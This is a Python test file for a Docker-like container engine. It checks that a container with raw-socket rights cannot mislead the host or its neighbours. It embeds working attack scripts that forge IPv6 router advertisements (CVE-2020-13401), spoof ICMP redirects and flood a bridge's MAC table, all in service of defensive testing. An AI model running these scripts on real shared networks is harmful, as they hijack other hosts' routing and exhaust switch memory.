"""A container against the wire it shares with the host and with other containers. It has NET_RAW, as Docker's do, and so may
send any frame it likes."""

from __future__ import annotations

import os
from collections.abc import Iterator

import pytest

from tests.attacks.rig import IMAGE, PYTHON, PYTHON3, Rig
from tests.lab import wait_until

KERNEL = tuple(int(number) for number in os.uname().release.split(".")[:2])

# `send(kind, payload)`: a frame to everybody. `checksum`: RFC 1071.
FRAMES = """
import socket, struct, sys, time
own = bytes.fromhex(open('/sys/class/net/eth0/address').read().strip().replace(':', ''))
def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def send(kind, packet):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(('eth0', 0))
        wire.send(b'\\xff' * 6 + own + struct.pack('!H', kind) + packet)
"""

# A router advertisement (RFC 4861, 4.2): "I am the way out, and here is the prefix to make addresses of."
ADVERTISE = (
    FRAMES
    + """
prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, '2001:db8:bad::')
said = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + prefix
source, everyone = (socket.inet_pton(socket.AF_INET6, text) for text in ('fe80::bad', 'ff02::1'))
said = said[:2] + struct.pack('!H', checksum(source + everyone + struct.pack('!II', len(said), 58) + said)) + said[4:]
while True:
    send(0x86dd, struct.pack('!IHBB', 6 << 28, len(said), 58, 255) + source + everyone + said)
    time.sleep(0.1)
"""
)

# An ICMP redirect (RFC 792) in the gateway's name: "for this address, there is a better way." Arguments: the gateway, the
# better way, and the victims.
REDIRECT = (
    FRAMES
    + """
gateway, better, *victims = map(socket.inet_aton, sys.argv[1:])
def packet(source, target, data):
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(data), 1, 0, 64, 1, 0) + source + target
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + data
while True:
    for victim in victims:
        answered = packet(victim, socket.inet_aton('192.0.2.1'), struct.pack('!BBHI', 0, 0, 0xffff, 0))
        said = struct.pack('!BBH', 5, 1, 0) + better + answered
        send(0x0800, packet(gateway, victim, said[:2] + struct.pack('!H', checksum(said)) + said[4:]))
    time.sleep(0.1)
"""
)


# A frame from each of twenty thousand senders.
CROWD = """
import socket, time
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind(('eth0', 0))
    for number in range(20000):
        wire.send(b'\\xff' * 6 + b'\\x02\\xba' + number.to_bytes(4, 'big') + b'\\x88\\xb5' + bytes(46))
print('sent', flush=True)
time.sleep(1000)
"""


@pytest.fixture
def six(rig: Rig) -> Iterator[str]:
    """A network with IPv6, by name; its bridge is `br-six`."""
    rig.engine.firkin(
        "network", "create", "--ipv6", "--subnet", "fd00:77::/64", "-o", "com.docker.network.bridge.name=br-six", "six"
    )
    yield "six"
    rig.engine.firkin("network", "rm", "six")


def inside(rig: Rig, container: str, *argv: str) -> str:
    """What a command of the host's says in the container's network."""
    return rig.engine.lab.run("nsenter", "-t", str(rig.pid(container)), "-n", *argv).stdout


def address(rig: Rig, container: str, key: str = "IPAddress") -> str:
    networks = rig.engine.api().call("GET", f"/containers/{container}/json")[1]["NetworkSettings"]["Networks"]
    return str(next(iter(networks.values()))[key])


def test_nobody_believes_a_container_that_says_it_is_the_router(rig: Rig, six: str) -> None:
    """CVE-2020-13401. Who would be led astray is shown by a container, and by the bridge, that are told to believe."""
    lab = rig.engine.lab
    lab.run("sysctl", "-w", "net.ipv6.conf.br-six.forwarding=0")  # a host that routes believes nobody anyway
    naive = ("--sysctl", "net.ipv6.conf.eth0.accept_ra=1", "--sysctl", "net.ipv6.conf.all.forwarding=0")
    attacker = ("--network", six, *PYTHON, IMAGE, PYTHON3, "-IS", "-c", ADVERTISE)
    with (
        rig.held("--network", six, *naive, IMAGE, "sleep", "1000") as believer,
        rig.held("--network", six, IMAGE, "sleep", "1000") as careful,
        rig.held(*attacker),
    ):
        wait_until(lambda: "fe80::bad" in inside(rig, believer, "ip", "-6", "route"), 30)
        for told in (inside(rig, careful, "ip", "-6", "route"), lab.run("ip", "-6", "route").stdout):
            assert "fe80::bad" not in told and "2001:db8:bad" not in told
        lab.run("sysctl", "-w", "net.ipv6.conf.br-six.accept_ra=1")
        wait_until(lambda: "fe80::bad" in lab.run("ip", "-6", "route").stdout, 30)


def test_nobody_is_redirected_by_a_container_in_the_gateways_name(rig: Rig) -> None:
    naive, idle = ("--sysctl", "net.ipv4.conf.eth0.accept_redirects=1"), (IMAGE, "sleep", "1000")
    with rig.held(*idle) as accomplice, rig.held(*naive, *idle) as believer, rig.held(*idle) as careful:
        gateway, better = address(rig, careful, "Gateway"), address(rig, accomplice)
        attack = (REDIRECT, gateway, better, address(rig, careful), address(rig, believer))
        with rig.held(*PYTHON, IMAGE, PYTHON3, "-IS", "-c", *attack):
            wait_until(lambda: f"via {better} " in inside(rig, believer, "ip", "route", "get", "192.0.2.1"), 30)
            assert f"via {gateway} " in inside(rig, careful, "ip", "route", "get", "192.0.2.1")


@pytest.mark.skipif(KERNEL < (6, 8), reason="before Linux 6.8 a bridge remembers any number")
def test_a_crowd_of_senders_does_not_fill_the_hosts_memory(rig: Rig) -> None:
    """The bridge remembers whom it has seen, within limits, and others still reach the host; a bridge that the
    engine has not made remembers them all."""
    lab = rig.engine.lab
    lab.run("ip", "link", "add", "br-naive", "type", "bridge")
    rig.engine.firkin("network", "create", "-o", "com.docker.network.bridge.name=br-naive", "--subnet", "10.66.0.0/24", "naive")
    try:
        for network, bridge, least, most in (("naive", "br-naive", 15000, 21000), ("bridge", "firkin0", 1, 5000)):
            with rig.held("--network", network, *PYTHON, IMAGE, PYTHON3, "-IS", "-c", CROWD) as crowd:
                wait_until(lambda container=crowd: "sent" in rig.logs(container), 60)  # type: ignore[misc]
                seen = lab.run("bridge", "fdb", "show", "br", bridge).stdout.count("02:ba:")
                assert least <= seen <= most, f"{bridge}: {seen}"
        assert rig.shell(f"ping -c1 -W10 {_gateway(rig)} >/dev/null && echo reached") == "reached\n"
    finally:
        rig.engine.firkin("network", "rm", "naive")
        lab.run("ip", "link", "del", "br-naive")


def _gateway(rig: Rig) -> str:
    return str(rig.engine.api().call("GET", "/networks/bridge")[1]["IPAM"]["Config"][0]["Gateway"])
